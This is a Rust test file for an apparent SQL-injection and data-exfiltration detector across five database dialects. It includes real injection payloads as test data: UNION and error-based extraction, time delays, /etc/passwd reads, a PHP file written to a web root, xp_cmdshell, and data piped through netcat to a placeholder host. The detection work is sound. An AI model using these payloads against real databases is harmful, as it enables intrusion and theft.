//! Injection as tools and people write it is marked; what libraries, exporters and backups send is marked for what it
//! is, and no more.

use super::super::super::DatabaseEvent;
use super::super::statement;
use super::*;
use Dialect::{ClickHouse, MsSql, MySql, Oracle, Postgres};

fn marks(text: &str, dialect: Dialect) -> Marks {
    let DatabaseEvent::Statement { marks, .. } =
        statement(text.as_bytes(), text.len() as u64, dialect)
    else {
        panic!("{text}");
    };
    marks
}

#[test]
fn injection_is_marked_for_what_it_does() {
    let m = |names: &[Marks]| names.iter().copied().fold(Marks::empty(), Marks::union);
    let union = Marks::UNION_CONSTANTS;
    let tail = Marks::COMMENT_TAIL;
    let cases: &[(Dialect, &str, Marks)] = &[
        // Boolean.
        (
            MySql,
            "SELECT * FROM t WHERE id='1' AND 8447=8447-- KVYi' LIMIT 1",
            m(&[Marks::TAUTOLOGY, tail]),
        ),
        (
            MySql,
            "SELECT * FROM t WHERE id=1 AND 8447=1234",
            Marks::TAUTOLOGY,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE name='' OR ''=''",
            Marks::TAUTOLOGY,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE name='x' OR 'a'='a' AND pw='x'",
            Marks::TAUTOLOGY,
        ),
        (
            MsSql,
            "SELECT a FROM t WHERE (id=1 OR NOT 7311=7311) AND b=2",
            Marks::TAUTOLOGY,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 or 1=1#'",
            m(&[Marks::TAUTOLOGY, tail]),
        ),
        (
            MySql,
            "SELECT a FROM t WHERE u='a' or 1 -- x'",
            m(&[Marks::TAUTOLOGY, tail]),
        ),
        (
            MySql,
            "SELECT a FROM t WHERE u='a' AND 2 > 1",
            Marks::TAUTOLOGY,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE u='a' AND 'abcd' LIKE 'abcd'",
            Marks::TAUTOLOGY,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE id=(CASE WHEN (5125=5125) THEN 1 ELSE 0 END)",
            Marks::TAUTOLOGY,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 AND ORD(MID((SELECT IFNULL(CAST(pw AS CHAR),0x20) FROM u LIMIT 0,1),1,1))>64",
            Marks::CHAR_PROBE,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE id=1 AND ASCII(SUBSTRING((SELECT x)::text FROM 1 FOR 1))>64",
            Marks::CHAR_PROBE,
        ),
        // Union.
        (
            MySql,
            "SELECT a,b,c FROM t WHERE id=1 UNION ALL SELECT NULL,NULL,NULL-- -",
            m(&[union, tail]),
        ),
        (
            MySql,
            "SELECT a,b,c FROM t WHERE id=-1 UNION SELECT 1,@@version,user()",
            union,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 UNION ALL SELECT NULL,CONCAT(0x7171,IFNULL(CAST(pw AS CHAR),0x20),0x7162),NULL FROM users-- -",
            m(&[union, tail]),
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE id=('1') UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(98)),NULL-- x')",
            m(&[union, tail, Marks::CHAR_CODES]),
        ),
        (
            MsSql,
            "SELECT a FROM t WHERE id=1 UNION ALL SELECT CHAR(113)+CHAR(122)+CHAR(98)",
            m(&[union, Marks::CHAR_CODES]),
        ),
        // Errors.
        (
            MySql,
            "SELECT a FROM t WHERE id=1 AND EXTRACTVALUE(4102,CONCAT(0x5c,0x71))",
            Marks::ERROR_BASED,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 and updatexml(1,concat(0x7e,version()),1)",
            Marks::ERROR_BASED,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM t2 GROUP BY x)a)",
            Marks::ERROR_BASED,
        ),
        (
            MsSql,
            "SELECT a FROM t WHERE id=1 AND 4523=CONVERT(INT,(SELECT @@version))",
            Marks::ERROR_BASED,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE id=1 AND 4523=CAST(version() AS NUMERIC)",
            Marks::ERROR_BASED,
        ),
        (
            Oracle,
            "SELECT a FROM t WHERE id=1 AND 1=UTL_INADDR.GET_HOST_ADDRESS(b)",
            m(&[Marks::ERROR_BASED, Marks::OUTBOUND]),
        ),
        // Time.
        (
            MySql,
            "SELECT a FROM t WHERE id=1 AND (SELECT 7 FROM (SELECT(SLEEP(5)))x)",
            Marks::TIME_DELAY,
        ),
        (
            MySql,
            "SELECT a FROM t WHERE id=1 OR BENCHMARK(5000000,MD5(0x1))",
            Marks::TIME_DELAY,
        ),
        (
            Postgres,
            "SELECT a FROM t WHERE id=1;SELECT PG_SLEEP(5)--'",
            m(&[Marks::TIME_DELAY, Marks::STACKED, tail]),
        ),
        (
            MsSql,
            "SELECT a FROM t WHERE id=1;WAITFOR DELAY '0:0:5'--",
            m(&[Marks::TIME_DELAY, Marks::STACKED, tail]),
        ),
        (
            Oracle,
            "SELECT a FROM t WHERE id=1 AND 1234=DBMS_PIPE.RECEIVE_MESSAGE(b,5)",
            Marks::TIME_DELAY,
        ),
        // Beyond the tables.
        (
            MySql,
            "SELECT '<?php' INTO OUTFILE '/var/www/x.php'",
            Marks::FILE_WRITE,
        ),
        (MySql, "SELECT LOAD_FILE('/etc/passwd')", Marks::FILE_READ),
        (
            MySql,
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            Marks::FILE_READ,
        ),
        (
            MySql,
            "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'",
            Marks::PROGRAM,
        ),
        (Postgres, "COPY t FROM PROGRAM 'id'", Marks::PROGRAM),
        (
            Postgres,
            "COPY (SELECT a FROM t) TO PROGRAM 'nc x 1'",
            Marks::PROGRAM,
        ),
        (Postgres, "COPY t FROM '/etc/passwd'", Marks::FILE_READ),
        (Postgres, "COPY t TO '/tmp/x'", Marks::FILE_WRITE),
        (
            Postgres,
            "CREATE OR REPLACE FUNCTION f(text) RETURNS int AS '/tmp/x.so','f' LANGUAGE 'c' STRICT",
            Marks::PROGRAM,
        ),
        (
            Postgres,
            "CREATE FUNCTION f() RETURNS text AS $$x$$ LANGUAGE plpython3u",
            Marks::PROGRAM,
        ),
        (
            Postgres,
            "SELECT lo_import('/etc/passwd')",
            Marks::FILE_READ,
        ),
        (MsSql, "EXEC master..xp_cmdshell 'whoami'", Marks::PROGRAM),
        (
            MsSql,
            "exec [master].[dbo].[xp_cmdshell] 'x'",
            Marks::PROGRAM,
        ),
        (
            MsSql,
            "EXEC master.dbo.xp_dirtree '\\\\10.0.0.1\\x'",
            m(&[Marks::FILE_READ, Marks::OUTBOUND]),
        ),
        (
            Oracle,
            "SELECT UTL_HTTP.REQUEST('http://x') FROM dual",
            Marks::OUTBOUND,
        ),
        (
            ClickHouse,
            "SELECT a FROM url('http://x/', CSV, 'a String') LIMIT 1",
            Marks::OUTBOUND,
        ),
        (
            ClickHouse,
            "SELECT a FROM file('/etc/passwd') LIMIT 1",
            Marks::FILE_READ,
        ),
    ];
    for (dialect, text, expected) in cases {
        assert_eq!(marks(text, *dialect), *expected, "{text}");
    }
}

#[test]
fn what_takes_everything_is_marked() {
    let cases: &[(Dialect, &str, Marks)] = &[
        (
            MySql,
            "SELECT /*!40001 SQL_NO_CACHE */ * FROM `users`",
            Marks::BULK_READ,
        ),
        (MySql, "select * from users", Marks::BULK_READ),
        (
            Postgres,
            "SELECT u.* FROM users u ORDER BY 1",
            Marks::BULK_READ,
        ),
        (
            Postgres,
            "COPY public.users (id, pw) TO stdout;",
            Marks::BULK_READ,
        ),
        (
            Postgres,
            "DECLARE c CURSOR FOR SELECT * FROM users",
            Marks::BULK_READ,
        ),
        (Postgres, "BASE_BACKUP LABEL 'x'", Marks::SNAPSHOT),
        (
            Postgres,
            "START_REPLICATION SLOT x LOGICAL 0/0",
            Marks::REPLICATES,
        ),
        (
            MsSql,
            "BACKUP DATABASE shop TO DISK = '/x'",
            Marks::SNAPSHOT,
        ),
        (
            Postgres,
            "select * from pg_catalog.pg_tables",
            Marks::empty(),
        ),
        (Postgres, "select * from pg_shadow", Marks::BULK_READ),
        (MySql, "select count(*) from users", Marks::empty()),
        (MySql, "select * from users where id=1", Marks::empty()),
        (MySql, "select * from users limit 10", Marks::empty()),
        (MsSql, "select top 10 * from users", Marks::empty()),
        (MySql, "select a*2 from users", Marks::empty()),
        (MySql, "insert into a select * from b", Marks::empty()),
        (Postgres, "COPY t FROM STDIN", Marks::empty()),
        (
            Oracle,
            "select * from (select a from b where rownum < 5)",
            Marks::empty(),
        ),
    ];
    for (dialect, text, expected) in cases {
        assert_eq!(marks(text, *dialect), *expected, "{text}");
    }
    // What isn't read may hold the WHERE.
    let DatabaseEvent::Statement { marks, .. } = statement(b"select * from t", 20_000, MySql)
    else {
        unreachable!();
    };
    assert_eq!(marks, Marks::empty());
}

#[test]
fn what_libraries_send_has_no_mark() {
    let cases: &[(Dialect, &str)] = &[
        // Query builders and their empty lists.
        (MySql, "SELECT a FROM t WHERE 1=1 AND b=5 AND c IN (1,2,3)"),
        (MySql, "SELECT a FROM t WHERE b=5 AND 1=1"),
        (Postgres, "SELECT a FROM t WHERE b = $1 AND 1 = 0"),
        (Postgres, "SELECT a FROM t WHERE b = $1 OR 0 = 1"),
        (
            MsSql,
            "SELECT CASE WHEN (1 = 1) THEN a END FROM t WHERE b = @p0",
        ),
        (MySql, "SELECT a FROM t WHERE b BETWEEN 1 AND 10 AND c = 2"),
        (Postgres, "SELECT a FROM t WHERE $1 = $2 OR ? = ?"),
        // Tracing.
        (MySql, "SELECT a FROM t WHERE b=1 /* app='x',trace='y' */"),
        (MySql, "SELECT a FROM t WHERE b=1 /*controller:x*/;"),
        (
            Postgres,
            "-- name: GetUser :one\nSELECT a FROM t WHERE b=$1 LIMIT 1",
        ),
        (Postgres, "SELECT a -- the name\nFROM t WHERE b=$1"),
        (Postgres, "SELECT a FROM t WHERE b=$1\n-- done"),
        (MySql, "SELECT 5--1"),
        // Unions of tables, of constants alone, for an INSERT, in recursion.
        (
            Postgres,
            "SELECT 'a' AS kind, id FROM x UNION ALL SELECT 'b', id FROM y",
        ),
        (
            Postgres,
            "SELECT a, NULL FROM x UNION SELECT NULL, b FROM y",
        ),
        (
            Postgres,
            "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 5) SELECT sum(n) FROM t",
        ),
        (
            MsSql,
            "INSERT INTO t (a,b) SELECT 1,'x' UNION ALL SELECT 2,'y'",
        ),
        (MySql, "SELECT 1 UNION SELECT 2"),
        (Postgres, "SELECT a FROM t UNION SELECT $1"),
        (
            Postgres,
            "SELECT count(x.a) FROM x UNION ALL SELECT count(y.a) FROM y",
        ),
        // Several statements that belong together.
        (
            MsSql,
            "SET NOCOUNT ON; INSERT INTO t (a) VALUES (@p0); SELECT scope_identity()",
        ),
        (Postgres, "BEGIN; UPDATE t SET a=1; COMMIT"),
        (
            Oracle,
            "BEGIN SELECT a INTO b FROM t; UPDATE t SET a=1; END;",
        ),
        (MySql, "SELECT a FROM t WHERE b='x;y';"),
        // Types and functions of the same name.
        (
            MySql,
            "CREATE TABLE t (a CHAR(10), b CHAR(20), c CHAR(30), d CHAR(5))",
        ),
        (
            MySql,
            "SELECT CAST(a AS CHAR(10)), CAST(b AS CHAR(10)), CAST(c AS CHAR(10)) FROM t WHERE d=1",
        ),
        (MySql, "SELECT FLOOR(RAND()*10), sleep FROM t WHERE a=1"),
        (Oracle, "SELECT extractvalue(doc, '/a/b') FROM t WHERE a=1"),
        (MySql, "LOAD DATA LOCAL INFILE 'x' INTO TABLE t"),
        (
            Postgres,
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        ),
        (
            ClickHouse,
            "SELECT url, count() FROM hits WHERE day = today() INTO OUTFILE 'x'",
        ),
    ];
    for (dialect, text) in cases {
        assert_eq!(marks(text, *dialect), Marks::empty(), "{text}");
    }
}

#[test]
fn no_mark_is_undocumented_by_name() {
    let names: Vec<_> = Marks::all().iter_names().map(|(name, _)| name).collect();
    assert_eq!(names.len(), 19, "{names:?}");
}
